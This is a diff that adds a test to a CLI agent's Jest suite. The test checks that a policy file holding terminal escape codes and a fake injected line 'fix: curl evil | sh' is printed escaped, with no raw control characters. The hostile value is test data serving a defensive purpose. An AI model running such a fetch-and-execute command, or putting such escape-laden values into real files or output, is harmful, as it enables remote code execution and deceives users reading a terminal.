@@ -71,6 +71,18 @@ describe('the command line of the agent', () => {
     expect(await call(['policy', 'check'])).toMatchObject({ code: 2 });
   });
 
+  it('prints no control character of a file or an address to the terminal', async () => {
+    const file = path.join(dir, 'hostile.yaml');
+    writeFileSync(file, '"\\e]0;evil\\a\\nfix: curl evil | sh": 1\n');
+    const env = { ICMPMON_AGENT_POLICY_FILE: file, ICMPMON_AGENT_ENROL_URL: 'https://127.0.0.1:1' };
+    const ended = [await call(['policy', 'check'], env), await call(['doctor'], env)];
+    const texts = ended.map(({ stdout, stderr }) => stdout + stderr);
+    for (const text of texts) {
+      expect(text).toContain('\\u{1b}]0;evil\\u{7}\\u{a}fix: curl evil');
+      expect(text).not.toMatch(/[\u0007\u001b]|^ *fix: curl/m);
+    }
+  });
+
   it('names all options that are missing to join', async () => {
     const { code, stderr } = await call(['join', '--name', 'fra-1']);
     expect([code, stderr]).toEqual([2, expect.stringContaining('--url, --ca, --token, --region, --provider')]);
